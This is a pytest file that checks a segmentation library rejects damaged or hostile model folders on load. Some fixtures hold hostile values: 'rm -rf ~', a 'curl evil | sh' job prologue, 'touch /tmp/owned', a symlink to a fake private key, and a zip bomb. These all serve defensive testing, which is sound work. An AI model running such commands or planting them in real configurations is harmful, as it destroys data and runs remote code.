"""A model folder is data, never instructions: every damaged field is one clear ModelError."""

import io
import json
import os
import shutil
import sys

import dask
import dask.array as da
import numpy as np
import pytest

from bigseg import config, features, model, nnls
from conftest import small_settings


@pytest.fixture(scope="module")
def fitted(tmp_path_factory):
    """A tiny model fitted the way the pipeline fits one, saved once for every test to copy."""
    rng = np.random.default_rng(0)
    s = small_settings(chunk_size=32, sample_size=2000, max_iter=50, n_components=3)
    arrays = [features.compute_features(da.from_array(rng.random((48, 40), np.float32), chunks=32), s)
              for _ in range(2)]
    m = model.fit(arrays, features.feature_names(s), s, lambda objs: list(dask.compute(*objs, scheduler="sync")))
    folder = tmp_path_factory.mktemp("fitted") / "model"
    m.save(folder)
    return m, folder


@pytest.fixture
def saved(fitted, tmp_path):
    folder = tmp_path / "model"
    shutil.copytree(fitted[1], folder)
    return folder


def _edit_json(folder, change):
    meta = json.loads((folder / "model.json").read_text())
    change(meta)                                   # in place
    (folder / "model.json").write_text(json.dumps(meta))


def _edit_npz(folder, change):
    with np.load(folder / "model.npz", allow_pickle=False) as z:
        arrays = {k: z[k] for k in z.files}
    change(arrays)
    np.savez(folder / "model.npz", **arrays)


def _refused(folder, file, field):
    with pytest.raises(model.ModelError) as info:
        model.Model.load(folder)
    msg = str(info.value)
    assert "\n" not in msg
    assert str(folder / file) in msg and field in msg, msg
    return msg


def _set(meta, path, value):
    *outer, last = path
    for key in outer:
        meta = meta[key]
    meta[last] = value


def _drop(meta, key):
    del meta[key]


def _npy_bytes(array):
    buf = io.BytesIO()
    np.save(buf, array)
    return buf.getvalue()


JSON_DAMAGE = {
    "not_json": ("{", "not JSON"),
    "a_list": ("[1, 2]", "JSON object"),
    "a_number": ("3", "JSON object"),
}

FIELD_DAMAGE = {
    "no_feature_names": (lambda m: _drop(m, "feature_names"), "'feature_names'"),
    "no_settings": (lambda m: _drop(m, "settings"), "'settings'"),
    "no_format": (lambda m: _drop(m, "format"), "'format'"),
    "format_2": (lambda m: _set(m, ["format"], 2), "'format'"),
    "format_true": (lambda m: _set(m, ["format"], True), "'format'"),
    "unknown_field": (lambda m: _set(m, ["run_this"], "rm -rf ~"), "'run_this'"),
    "feature_names_text": (lambda m: _set(m, ["feature_names"], "intensity"), "'feature_names'"),
    "feature_names_numbers": (lambda m: _set(m, ["feature_names"], list(range(len(m["feature_names"])))),
                              "'feature_names'"),
    "feature_names_renamed": (lambda m: m["feature_names"].__setitem__(0, "brightness"), "'feature_names'"),
    "feature_names_other_settings": (lambda m: _set(m, ["settings", "gradient_sigma"], 3.0), "'feature_names'"),
    "settings_list": (lambda m: _set(m, ["settings"], []), "'settings'"),
    "report_list": (lambda m: _set(m, ["report"], [1]), "'report'"),
    "bigseg_version_number": (lambda m: _set(m, ["bigseg_version"], 1), "'bigseg_version'"),
    "n_components_not_H": (lambda m: _set(m, ["n_components"], 2), "'n_components'"),
    "n_components_text": (lambda m: _set(m, ["n_components"], "3"), "'n_components'"),
    "settings_n_components_not_H": (lambda m: _set(m, ["settings", "n_components"], 2), "settings.n_components"),
    "settings_cluster": (lambda m: _set(m, ["settings", "cluster"],
                                        {"type": "slurm", "cores": 1, "memory": "1GB",
                                         "job_script_prologue": ["curl evil | sh"]}), "settings.cluster"),
    "settings_chunk_memory": (lambda m: _set(m, ["settings", "chunk_memory"], "1GiB"), "settings.chunk_memory"),
    "settings_unknown": (lambda m: _set(m, ["settings", "shell"], "ls"), "settings.shell"),
    "settings_nan": (lambda m: _set(m, ["settings", "spatial_weight"], float("nan")), "settings.spatial_weight"),
    "settings_solver": (lambda m: _set(m, ["settings", "solver"], "adam"), "settings.solver"),
    "settings_resize": (lambda m: _set(m, ["settings", "resize"], [10 ** 9, 512]), "settings.resize"),
    "settings_sweeps": (lambda m: _set(m, ["settings", "spatial_sweeps"], [5]), "settings.spatial_sweeps"),
    "fingerprints": (lambda m: _set(m, ["fingerprints"], "none"), "'fingerprints'"),
}


def _H(change):
    def apply(arrays):
        arrays["H"] = change(arrays["H"].copy())
    return apply


def _put(name, value):
    def apply(arrays):
        arrays[name] = value(arrays) if callable(value) else value
    return apply


def _nan_at(a):
    a[0, 0] = np.nan
    return a


def _zero_row(a):
    a[1] = 0.0
    return a


ARRAY_DAMAGE = {
    "H_1d": (_H(lambda a: a[0]), "'H'"),
    "H_no_rows": (_H(lambda a: a[:0]), "'H'"),
    "H_too_many_rows": (_H(lambda a: np.tile(a, (nnls.MAX_EXACT_K, 1))[:nnls.MAX_EXACT_K + 1]), "'H'"),
    "H_other_columns": (_H(lambda a: a[:, :-1]), "'H'"),
    "H_int": (_H(lambda a: (a * 100).astype(np.int64)), "'H'"),
    "H_nan": (_H(_nan_at), "'H'"),
    "H_inf": (_H(lambda a: a + np.inf), "'H'"),
    "H_negative": (_H(lambda a: -a), "'H'"),
    "H_zero_row": (_H(_zero_row), "'H'"),
    "scale_lo_nan": (_put("scale_lo", lambda a: np.full_like(a["scale_lo"], np.nan)), "'scale_lo'"),
    "scale_lo_inf": (_put("scale_lo", lambda a: np.full_like(a["scale_lo"], -np.inf)), "'scale_lo'"),
    "scale_lo_short": (_put("scale_lo", lambda a: a["scale_lo"][:-1]), "'scale_lo'"),
    "scale_hi_not_above_lo": (_put("scale_hi", lambda a: a["scale_lo"].copy()), "'scale_hi'"),
    "scale_hi_text": (_put("scale_hi", lambda a: a["scale_hi"].astype(str)), "'scale_hi'"),
    "scale_hi_missing": (lambda arrays: arrays.pop("scale_hi"), "'scale_hi'"),
    "scale_hi_objects": (_put("scale_hi", lambda a: np.array([{"x": 1}] * len(a["scale_hi"]), dtype=object)),
                         "'scale_hi'"),
    "extra_array": (_put("payload", np.zeros(3)), "'payload.npy'"),
}


@pytest.mark.parametrize("text, field", JSON_DAMAGE.values(), ids=JSON_DAMAGE.keys())
def test_unreadable_json_is_refused(saved, text, field):
    (saved / "model.json").write_text(text)
    _refused(saved, "model.json", field)


@pytest.mark.parametrize("change, field", FIELD_DAMAGE.values(), ids=FIELD_DAMAGE.keys())
def test_damaged_json_field_is_refused(saved, change, field):
    _edit_json(saved, change)
    _refused(saved, "model.json", field)


@pytest.mark.parametrize("change, field", ARRAY_DAMAGE.values(), ids=ARRAY_DAMAGE.keys())
def test_damaged_array_is_refused(saved, change, field):
    _edit_npz(saved, change)
    _refused(saved, "model.npz", field)


def test_cluster_in_settings_is_refused_as_not_a_model_setting(saved):
    _edit_json(saved, lambda m: _set(m, ["settings", "cluster"], {"type": "slurm", "cores": 1, "memory": "1GB",
                                                                  "job_script_prologue": ["touch /tmp/owned"]}))
    msg = _refused(saved, "model.json", "settings.cluster")
    assert "not a model setting; a model carries only what defines the segmentation" in msg


@pytest.mark.parametrize("content, field", [
    (lambda f: _npy_bytes(np.ones((3, 6))), ".npy"),
    (lambda f: b"junk", "not an npz"),
    (lambda f: b"", "not an npz"),
], ids=["npy_not_npz", "junk", "empty"])
def test_npz_that_is_not_an_archive_is_refused(saved, content, field):
    (saved / "model.npz").write_bytes(content(saved))
    assert "damaged" in _refused(saved, "model.npz", field)


def test_header_claiming_more_than_its_data_is_refused(saved):
    with np.load(saved / "model.npz") as z:
        arrays = {k: z[k] for k in z.files}
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False,
                                                  "shape": (3, 10 ** 12)})
    import zipfile

    with zipfile.ZipFile(saved / "model.npz", "w") as zf:
        zf.writestr("H.npy", header.getvalue() + b"\0" * 64)
        for k in ("scale_lo", "scale_hi"):
            zf.writestr(f"{k}.npy", _npy_bytes(arrays[k]))
    _refused(saved, "model.npz", "'H'")


def test_oversized_json_is_refused_unread(saved):
    with open(saved / "model.json", "r+b") as f:       # sparse: costs no disk
        f.truncate(model.MAX_JSON_BYTES + 1)
    _refused(saved, "model.json", "bytes")


def test_zip_bomb_is_refused_before_it_unpacks(saved, monkeypatch):
    with np.load(saved / "model.npz") as z:
        arrays = {k: z[k] for k in z.files}
    np.savez_compressed(saved / "model.npz", H=np.ones((3, 2 ** 17)), scale_lo=arrays["scale_lo"],
                        scale_hi=arrays["scale_hi"])
    assert (saved / "model.npz").stat().st_size < 8192
    monkeypatch.setattr(model, "MAX_NPZ_BYTES", 8192)
    _refused(saved, "model.npz", "unpacked")


@pytest.mark.skipif(sys.platform == "win32", reason="symbolic links need privileges on Windows")
@pytest.mark.parametrize("name", ["fingerprints.png", "model.json", "model.npz"])
def test_symlinked_file_is_refused(saved, tmp_path, name):
    private = tmp_path / "private"
    shutil.copy(saved / name, private)             # even pointing at a valid file
    os.chmod(private, 0o600)
    (saved / name).unlink()
    (saved / name).symlink_to(private)
    msg = _refused(saved, name, "is a symbolic link; a model folder holds only regular files")
    assert str(private) not in msg


@pytest.mark.skipif(sys.platform == "win32", reason="symbolic links need privileges on Windows")
def test_fingerprints_linked_to_a_private_file_is_not_read(saved, tmp_path):
    secret = tmp_path / "id_rsa"
    secret.write_bytes(b"\x89PNG\r\n\x1a\n-----BEGIN PRIVATE KEY-----")
    os.chmod(secret, 0o600)
    (saved / "fingerprints.png").unlink()
    (saved / "fingerprints.png").symlink_to(secret)
    _refused(saved, "fingerprints.png", "symbolic link")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs")
@pytest.mark.parametrize("name", ["fingerprints.png", "model.json"])
def test_fifo_is_refused_without_blocking(saved, name):
    (saved / name).unlink()
    os.mkfifo(saved / name)
    _refused(saved, name, "not a regular file")


def test_directory_in_place_of_a_file_is_refused(saved):
    (saved / "fingerprints.png").unlink()
    (saved / "fingerprints.png").mkdir()
    _refused(saved, "fingerprints.png", "not a regular file")


def test_fingerprints_that_is_not_a_png_is_refused(saved):
    (saved / "fingerprints.png").write_bytes(b"GIF89a")
    _refused(saved, "fingerprints.png", "PNG")


def test_fit_keeps_exactly_the_model_keys(fitted):
    m, _ = fitted
    assert tuple(m.settings) == config.MODEL_KEYS
    assert "minibatch_fraction" in m.settings and "cluster" not in m.settings


def test_valid_model_round_trips(fitted, saved):
    m, _ = fitted
    back = model.Model.load(saved)
    np.testing.assert_array_equal(back.H, m.H)
    np.testing.assert_array_equal(back.scale_lo, m.scale_lo)
    np.testing.assert_array_equal(back.scale_hi, m.scale_hi)
    assert back.feature_names == m.feature_names
    assert back.settings == json.loads(json.dumps(m.settings))
    assert back.report == json.loads(json.dumps(m.report))
    assert back.figure == m.figure and back.figure.startswith(model.PNG_SIGNATURE)


def test_model_saved_before_newer_keys_still_loads(saved):
    # before minibatch_fraction was kept, and before granulometry or the figure existed
    _edit_json(saved, lambda m: [m["settings"].pop(k) for k in ("minibatch_fraction", "closing_sizes",
                                                                   "opening_sizes", "n_components")])
    (saved / "fingerprints.png").unlink()
    back = model.Model.load(saved)
    assert back.figure is None and back.settings["n_components"] == back.n_components == 3
    assert "minibatch_fraction" not in back.settings


def test_save_refuses_a_run_setting(fitted, tmp_path):
    m, _ = fitted
    bad = model.Model(H=m.H, scale_lo=m.scale_lo, scale_hi=m.scale_hi, feature_names=m.feature_names,
                      settings=dict(m.settings, cluster=None))
    with pytest.raises(model.ModelError, match="settings.cluster"):
        bad.save(tmp_path / "bad")
    assert not (tmp_path / "bad").exists()
